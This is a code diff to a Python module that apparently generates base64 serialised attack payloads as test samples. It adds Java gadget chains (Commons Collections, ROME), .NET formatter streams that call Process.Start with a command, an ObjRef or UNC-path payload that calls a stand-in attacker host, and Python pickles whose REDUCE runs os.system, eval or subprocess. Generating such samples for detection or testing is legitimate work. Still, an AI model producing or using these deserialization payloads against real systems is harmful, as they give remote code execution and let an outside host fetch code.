@@ -1,4 +1,4 @@
-"""Serialised objects: Java streams, .NET formatter and view state bytes, as base64.
+"""Serialised objects: Java streams, .NET formatter and view state bytes, Python pickles, as base64.
 
 Java Object Serialization Specification, chapter 6; [MS-NRBF] .NET Remoting:
 Binary Format. The streams name the classes that gadget chains use and carry a
@@ -108,6 +108,10 @@ def net_los(rng):
     return los(base64.b64decode(net_formatter(rng)))
 
 
+def net_view(rng):
+    return los(base64.b64decode(net_remote(rng)))
+
+
 def los(inner):
     size, made = len(inner), b""
     while True:
@@ -118,4 +122,56 @@ def los(inner):
     return base64.b64encode(b"\xff\x01\x32" + made + inner).decode()
 
 
-words.MAKERS.update({"javadns": java_dns, "javacc": java_cc, "javabean": java_bean, "javarmi": java_rmi, "netformatter": net_formatter, "netdelegate": net_delegate, "netset": net_set, "netlos": net_los})
+def java_set(rng):
+    return java_chain(rng, "java.util.HashSet", ["org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections.map.LazyMap", rng.choice(["org.apache.commons.collections.functors.ChainedTransformer", "org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap"])])
+
+
+def java_rome(rng):
+    if rng.random() < 0.5:
+        return java_chain(rng, "java.util.Hashtable", ["com.sun.syndication.feed.impl.ObjectBean", "com.sun.syndication.feed.impl.ToStringBean", "javax.xml.transform.Templates"])
+    return java_chain(rng, "javax.swing.event.EventListenerList", ["javax.swing.undo.UndoManager", "com.fasterxml.jackson.databind.node.POJONode", "java.security.SignedObject"])
+
+
+def net_claims(rng):
+    """A principal whose claims are a formatter stream again, as base64 in a member."""
+    name, member = rng.choice([("System.Security.Claims.ClaimsPrincipal", "m_serializedClaimsIdentities"), ("System.Security.Principal.WindowsPrincipal", "m_identity"), ("System.Security.Principal.GenericPrincipal", "m_serializedClaimsIdentities"),
+                               ("System.Web.Security.RolePrincipal", "System.Security.ClaimsPrincipal.Identities")])
+    inner = net(rng, [("System.Collections.Hashtable", ["LoadFactor", "Comparer", "KeyComparer", "Keys"])], ["System.Diagnostics.Process", "Start", net_command(rng)], "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")
+    return base64.b64encode(net(rng, [(name, [member])], [base64.b64encode(inner).decode()], "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089")).decode()
+
+
+def net_remote(rng):
+    """A reference to a remote object: reading it calls the host (ObjRef), or names a file to load."""
+    if rng.random() < 0.5:
+        return base64.b64encode(net(rng, [("System.Exception", ["ClassName", "Message", "InnerException"]), ("System.Runtime.Remoting.ObjRef", ["url"])], ["System.Exception", "http://%s/%s" % (words.evil(rng), words.ident(rng))], "System.Runtime.Remoting")).decode()
+    return base64.b64encode(net(rng, [("System.Configuration.Install.AssemblyInstaller", ["_path"]), ("System.Windows.Data.ObjectDataProvider", ["_methodName", "_methodParameters"])], ["\\\\%s\\%s.dll" % (words.evil(rng), words.ident(rng)), "Start", net_command(rng)], "PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")).decode()
+
+
+words.MAKERS.update({"javadns": java_dns, "javacc": java_cc, "javabean": java_bean, "javarmi": java_rmi, "netformatter": net_formatter, "netdelegate": net_delegate, "netset": net_set, "netlos": net_los,
+                     "javaset": java_set, "javarome": java_rome, "netclaims": net_claims, "netremote": net_remote, "netview": net_view})
+
+
+PICKLED = (("posix", "system"), ("nt", "system"), ("builtins", "eval"), ("subprocess", "getoutput"), ("os", "popen"))
+
+
+def pickle_new(rng):
+    """A pickle of protocol 4 whose REDUCE calls a function (pickletools: PROTO, FRAME, STACK_GLOBAL, TUPLE1)."""
+    module, name = rng.choice(PICKLED)
+    made = b"".join(b"\x8c" + bytes([len(part)]) + part.encode() + b"\x94" for part in (module, name)) + b"\x93\x94"
+    argument = pickle_argument(rng, name).encode()
+    made += b"\x8c" + bytes([len(argument)]) + argument + b"\x94\x85\x94R\x94."
+    return base64.b64encode(b"\x80\x04\x95" + struct.pack("<Q", len(made)) + made).decode()
+
+
+def pickle_old(rng):
+    """The same call in protocol 2 (GLOBAL, BINUNICODE)."""
+    module, name = rng.choice(PICKLED)
+    argument = pickle_argument(rng, name).encode()
+    return base64.b64encode(b"\x80\x02c%s\n%s\nq\x00X%s%sq\x01\x85q\x02Rq\x03." % (module.encode(), name.encode(), struct.pack("<I", len(argument)), argument)).decode()
+
+
+def pickle_argument(rng, name):
+    return ("__import__('os').system(%r)" if name == "eval" else "%s") % command(rng)
+
+
+words.MAKERS.update({"pickle4": pickle_new, "pickle2": pickle_old})
